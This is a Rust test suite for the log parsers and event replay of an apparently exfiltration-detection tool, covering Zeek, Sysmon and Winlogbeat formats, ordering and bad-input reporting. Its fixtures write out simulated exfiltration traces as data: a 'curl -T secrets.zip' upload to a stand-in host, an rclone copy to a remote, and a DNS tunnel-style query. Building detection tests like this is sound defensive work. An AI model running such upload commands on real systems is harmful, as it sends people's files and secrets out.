//! Readers and replay over fixtures written by the tests themselves: one answer
//! whatever the thread count and file order, and bad input reported, never fatal.

use model::{Event, EventKind, Timestamp};
use sources::{Format, Replay, ReplayOptions, SourceContext, discover, open_path};
use std::io::Write;
use std::path::{Path, PathBuf};

const T0: f64 = 1_795_000_000.0;

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, bytes).unwrap();
    path
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(bytes).unwrap();
    gz.finish().unwrap()
}

fn rfc3339(secs: f64) -> String {
    Timestamp::from_secs_f64(secs).unwrap().to_rfc3339()
}

/// A Zeek conn log whose records are out of order by up to `disorder_s`, as Zeek
/// writes them (at connection end).
fn zeek_conn(records: usize, disorder_s: f64) -> String {
    let mut text = String::from(
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2026-11-18-00-00-00\n\
         #fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n\
         #types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n",
    );
    for i in 0..records {
        let ts = T0 + i as f64 * 5.0 - (i % 7) as f64 * disorder_s / 7.0;
        let bytes = if i % 5 == 0 {
            "-".to_string()
        } else {
            (i * 100).to_string()
        };
        text.push_str(&format!(
            "{ts:.6}\tC{i}\t10.0.0.{}\t{}\t203.0.113.{}\t443\ttcp\tssl\t{}.5\t{bytes}\t{}\tSF\tT\tF\t0\tShADadFf\t{}\t{}\t{}\t{}\t(empty)\n",
            i % 9 + 1,
            40000 + i,
            i % 13,
            i % 60,
            i * 3,
            i + 2,
            i * 50 + 80,
            i + 1,
            i * 2 + 60
        ));
    }
    text.push_str("#close\t2026-11-18-01-00-00\n");
    text
}

fn jsonl_generic(count: usize, garbage_every: usize) -> String {
    let mut text = String::new();
    for i in 0..count {
        text.push_str(&format!(
            "{{\"@timestamp\":\"{}\",\"message\":\"line {i}\",\"host\":{{\"name\":\"h{}\"}}}}\n",
            rfc3339(T0 + i as f64 * 7.0),
            i % 3
        ));
        if garbage_every > 0 && i % garbage_every == 0 {
            text.push_str("this is { not json\n");
        }
    }
    text
}

fn evtx_json_sysmon(id: u32, secs: f64, record: u64, data: &str) -> String {
    format!(
        r##"{{"Event":{{"#attributes":{{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"}},"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}}}},"EventID":{id},"Level":4,"TimeCreated":{{"#attributes":{{"SystemTime":"{}"}}}},"EventRecordID":{record},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws{}.corp.example"}},"EventData":{{{data}}}}}}}"##,
        rfc3339(secs),
        record % 2
    )
}

fn evtx_json_array(count: usize) -> String {
    let items: Vec<String> = (0..count)
        .map(|i| {
            let secs = T0 + 30.0 + i as f64 * 11.0;
            match i % 3 {
                0 => evtx_json_sysmon(1, secs, i as u64, r#""Image":"C:\\Tools\\rclone.exe","CommandLine":"rclone copy C:\\data remote:","ProcessId":100,"User":"CORP\\alice""#),
                1 => evtx_json_sysmon(3, secs, i as u64, r#""Image":"C:\\Tools\\rclone.exe","SourceIp":"10.0.0.7","SourcePort":"50123","DestinationIp":"198.51.100.20","DestinationPort":"443","Protocol":"tcp""#),
                _ => evtx_json_sysmon(22, secs, i as u64, r#""Image":"C:\\Tools\\rclone.exe","QueryName":"upload.example","QueryResults":"::ffff:198.51.100.20;","QueryStatus":"0""#),
            }
        })
        .collect();
    format!("[\n{}\n]\n", items.join(",\n"))
}

fn winlogbeat_jsonl(count: usize) -> String {
    (0..count)
        .map(|i| {
            format!(
                r#"{{"@timestamp":"{}","host":{{"name":"dc1"}},"winlog":{{"event_id":4688,"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"dc1.corp.example","event_data":{{"NewProcessName":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl -T secrets.zip https://upload.example/","NewProcessId":"0x{:x}","SubjectUserName":"svc"}}}}}}"#,
                rfc3339(T0 + 13.0 + i as f64 * 17.0),
                4000 + i
            ) + "\n"
        })
        .collect()
}

/// The mixed fixture folder used by the same-answer tests.
fn mixed_folder(dir: &Path) -> Vec<PathBuf> {
    vec![
        write(dir, "a/events.jsonl", jsonl_generic(200, 50).as_bytes()),
        write(dir, "b/sensor-b", &gzip(zeek_conn(400, 1800.0).as_bytes())),
        write(dir, "b/conn-2.log", zeek_conn(150, 600.0).as_bytes()),
        write(
            dir,
            "c/sysmon.json.zst",
            &zstd::encode_all(evtx_json_array(90).as_bytes(), 3).unwrap(),
        ),
        write(dir, "d/winlogbeat.ndjson", winlogbeat_jsonl(120).as_bytes()),
    ]
}

fn replay_lines(files: Vec<PathBuf>, options: ReplayOptions) -> (Vec<String>, sources::ReadStats) {
    let mut replay = Replay::new(files, SourceContext::default(), options);
    let lines = replay
        .by_ref()
        .map(|e| serde_json::to_string(&e).unwrap())
        .collect();
    (lines, replay.stats())
}

#[test]
fn same_answer_for_one_and_many_threads_and_any_file_order() {
    let dir = tempfile::tempdir().unwrap();
    let files = mixed_folder(dir.path());
    let single = ReplayOptions {
        threads: 1,
        ..ReplayOptions::default()
    };
    let (one, stats_one) = replay_lines(files.clone(), single);
    let mut shuffled = files.clone();
    shuffled.reverse();
    shuffled.swap(0, 2);
    let many = ReplayOptions {
        threads: 4,
        batch_events: 16,
        max_buffered_events: 64,
        ..ReplayOptions::default()
    };
    let (four, stats_four) = replay_lines(shuffled, many);
    assert_eq!(one.len(), 200 + 400 + 150 + 90 + 120);
    assert_eq!(one, four);
    assert_eq!(stats_one, stats_four);
    assert_eq!(stats_one.late_events, 0);
    assert_eq!(stats_one.total_skipped(), 4);
}

#[test]
fn replay_yields_event_time_order_within_the_window() {
    let dir = tempfile::tempdir().unwrap();
    let files = mixed_folder(dir.path());
    let mut replay = Replay::new(files, SourceContext::default(), ReplayOptions::default());
    let times: Vec<Timestamp> = replay.by_ref().map(|e| e.timestamp).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    let stats = replay.stats();
    assert_eq!(stats.first, times.first().copied());
    assert_eq!(stats.last, times.last().copied());
    assert_eq!(stats.files_by_format["zeek-conn"], 2);
    assert_eq!(stats.files_by_format["json-evtx"], 1);
    assert_eq!(stats.files_by_format["json-winlogbeat"], 1);
    assert_eq!(stats.events[&("zeek-conn", "network")], 550);
    assert_eq!(stats.events[&("json-evtx", "process_start")], 30);
    assert_eq!(stats.events[&("json-evtx", "network")], 30);
    assert_eq!(stats.events[&("json-evtx", "dns")], 30);
    assert_eq!(stats.events[&("json-winlogbeat", "process_start")], 120);
}

#[test]
fn a_window_shorter_than_the_disorder_reports_late_events() {
    let dir = tempfile::tempdir().unwrap();
    let files = vec![write(
        dir.path(),
        "conn.log",
        zeek_conn(100, 1800.0).as_bytes(),
    )];
    let options = ReplayOptions {
        reorder_window_s: 60,
        ..ReplayOptions::default()
    };
    let mut replay = Replay::new(files, SourceContext::default(), options);
    assert_eq!(replay.by_ref().count(), 100);
    assert!(replay.stats().late_events > 0);
}

#[test]
fn bad_input_folder_keeps_good_records_and_reports_bad_ones() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let jsonl = write(root, "garbage.jsonl", jsonl_generic(10, 4).as_bytes());
    let empty = write(root, "empty.log", b"");
    let blob: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let binary = write(root, "blob.bin", &blob);
    let mut conn = zeek_conn(20, 0.0);
    conn.truncate(conn.rfind("\n#close").unwrap() - 40);
    let zeek = write(root, "conn-truncated.log", conn.as_bytes());
    let fake_evtx = write(root, "fake.evtx", b"ElfFile\0 but nothing else");
    let mut replay = Replay::from_discovery(
        discover(&[root.to_path_buf()]),
        SourceContext::default(),
        ReplayOptions::default(),
    );
    let events: Vec<Event> = replay.by_ref().collect();
    let stats = replay.stats();
    assert_eq!(events.len(), 10 + 19);
    let failed: Vec<(&Path, &str)> = stats
        .failed_files
        .iter()
        .map(|f| (f.path.as_path(), f.reason.as_str()))
        .collect();
    assert_eq!(failed.len(), 3, "{failed:?}");
    assert!(failed.contains(&(binary.as_path(), "not a supported log format (binary data)")));
    assert!(failed.contains(&(empty.as_path(), "not a supported log format (empty file)")));
    assert!(
        failed
            .iter()
            .any(|(p, r)| *p == fake_evtx && r.contains("evtx header"))
    );
    // 10 records, garbage after records 0, 4 and 8; one cut Zeek line.
    assert_eq!(stats.skipped["invalid json"], 3);
    assert_eq!(
        stats.skipped["zeek record field count differs from #fields"],
        1
    );
    let jsonl_text = std::fs::read_to_string(&jsonl).unwrap();
    for example in stats
        .skip_examples
        .iter()
        .filter(|e| e.reason == "invalid json")
    {
        assert_eq!(&*example.file, jsonl.display().to_string());
        assert!(jsonl_text[example.offset as usize..].starts_with("this is { not json"));
    }
    let cut = stats
        .skip_examples
        .iter()
        .find(|e| e.file.as_ref() == zeek.display().to_string())
        .unwrap();
    assert_eq!(cut.offset as usize, conn.rfind('\n').unwrap() + 1);
}

#[test]
fn sniffing_ignores_names_and_reads_zeek_json_and_pretty_objects() {
    let dir = tempfile::tempdir().unwrap();
    let zeek_json = "{\"_path\":\"dns\",\"ts\":1795000000.5,\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.1\",\"id.orig_p\":5353,\"id.resp_h\":\"10.0.0.53\",\"id.resp_p\":53,\"proto\":\"udp\",\"query\":\"aGVsbG8.tunnel.example\",\"qtype_name\":\"TXT\",\"rcode_name\":\"NOERROR\",\"answers\":[\"x\",\"y\"]}\n";
    let misleading = write(dir.path(), "conn.log.evtx", zeek_json.as_bytes());
    let (format, source) = open_path(&misleading, &SourceContext::default()).unwrap();
    assert_eq!(format.name(), "zeek-dns-json");
    let events: Vec<Event> = source.map(Result::unwrap).collect();
    let dns = events[0].dns.as_deref().unwrap();
    assert_eq!(dns.question_name.as_deref(), Some("aGVsbG8.tunnel.example"));
    assert_eq!(dns.question_type.as_deref(), Some("TXT"));
    assert_eq!(dns.answers, ["x", "y"]);
    assert_eq!(events[0].kind, EventKind::Dns);

    let pretty = format!(
        "{}\n{}",
        serde_json::to_string_pretty(
            &serde_json::from_str::<serde_json::Value>(&evtx_json_sysmon(
                11,
                T0,
                1,
                r#""Image":"C:\\x.exe","TargetFilename":"C:\\stage\\out.7z""#
            ))
            .unwrap()
        )
        .unwrap(),
        serde_json::to_string_pretty(
            &serde_json::from_str::<serde_json::Value>(&evtx_json_sysmon(
                1,
                T0 + 1.0,
                2,
                r#""Image":"C:\\7z.exe""#
            ))
            .unwrap()
        )
        .unwrap()
    );
    let path = write(dir.path(), "export.txt", pretty.as_bytes());
    let (format, source) = open_path(&path, &SourceContext::default()).unwrap();
    assert_eq!(format, Format::Json(sources::JsonShape::EvtxJson));
    let events: Vec<Event> = source.map(Result::unwrap).collect();
    assert_eq!(events.len(), 2);
    assert_eq!(events[0].file_path.as_deref(), Some("C:\\stage\\out.7z"));
    assert_eq!(events[0].kind, EventKind::File);
}

/// A real EVTX file cut inside a chunk (made at test time from the shared sample
/// data; skipped when it is absent): every record before the cut is kept and the cut
/// is reported at its byte offset.
#[test]
fn truncated_evtx_keeps_readable_records() {
    let root = std::env::var_os("EXFILGUARD_SHARED_DATA")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"));
    let Some(sample) = discover(&[root.join("evtx")])
        .files
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "evtx"))
        .find(|p| std::fs::metadata(p).is_ok_and(|m| m.len() >= 4096 + 3 * 65536))
    else {
        println!("skipped: no EVTX sample data");
        return;
    };
    let bytes = std::fs::read(&sample).unwrap();
    let cut_at = 4096 + 65536 + 40_000;
    let dir = tempfile::tempdir().unwrap();
    let truncated = write(dir.path(), "cut.evtx", &bytes[..cut_at]);
    let whole_chunk_records = {
        let prefix = write(dir.path(), "prefix.evtx", &bytes[..4096 + 65536]);
        let mut parser = evtx::EvtxParser::from_path(&prefix).unwrap();
        parser.records_json_value().filter(Result::is_ok).count()
    };
    let (_, source) = open_path(&truncated, &SourceContext::default()).unwrap();
    let (mut ok, mut errors) = (0, Vec::new());
    for record in source {
        match record {
            Ok(_) => ok += 1,
            Err(e) => errors.push(e),
        }
    }
    assert!(
        ok > whole_chunk_records,
        "records of the partial chunk are kept ({ok} vs {whole_chunk_records})"
    );
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].offset, cut_at as u64);
}

/// The labels `exfilguard simulate` writes beside its logs are not a log: they
/// are unsupported (listed with the other non-log files), not a record skipped
/// for its missing timestamp. Any other object with a `generator` key is read.
#[test]
fn simulation_labels_are_not_a_log() {
    let labels =
        b"{\n  \"generator\": \"exfilguard simulate 0.1.0\",\n  \"seed\": 1,\n  \"hosts\": []\n}\n";
    assert_eq!(sources::sniff(labels), None);
    let with_bom = [&b"\xef\xbb\xbf"[..], labels].concat();
    assert_eq!(sources::sniff(&with_bom), None);
    let error = match sources::open_bytes("labels.json", labels.to_vec(), &SourceContext::default())
    {
        Err(error) => error.to_string(),
        Ok(_) => panic!("labels opened as a log"),
    };
    assert!(error.contains("exfilguard simulate"), "{error}");
    let other = b"{\"generator\": \"nxlog\", \"@timestamp\": \"2026-11-02T10:00:00Z\", \"message\": \"x\"}\n";
    assert!(sources::sniff(other).is_some());
}

/// Zeek's `loaded_scripts.log` lists the sensor's scripts: its `#fields` have
/// no `ts`. It is skipped as a whole, with its reason, not read as hundreds of
/// records without a timestamp; a log with `ts` is still read.
#[test]
fn zeek_logs_without_a_ts_column_are_not_event_logs() {
    let scripts = b"#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tloaded_scripts\n#open\t2023-01-05-18-51-06\n#fields\tname\n#types\tstring\n/opt/zeek/share/zeek/base/init-bare.zeek\n  /opt/zeek/share/zeek/base/bif/const.bif.zeek\n";
    assert_eq!(sources::sniff(scripts), None);
    let error = match sources::open_bytes(
        "loaded_scripts.log",
        scripts.to_vec(),
        &SourceContext::default(),
    ) {
        Err(error) => error.to_string(),
        Ok(_) => panic!("loaded_scripts.log opened as a log"),
    };
    assert!(error.contains("not a supported log format"), "{error}");
    assert!(
        error.contains("loaded_scripts log: no ts column"),
        "{error}"
    );
    let timed = b"#separator \\x09\n#path\thttp\n#fields\tts\thost\turi\tmethod\n#types\ttime\tstring\tstring\tstring\n1551355621.0\texample.org\t/x\tGET\n";
    assert!(sources::sniff(timed).is_some());
}
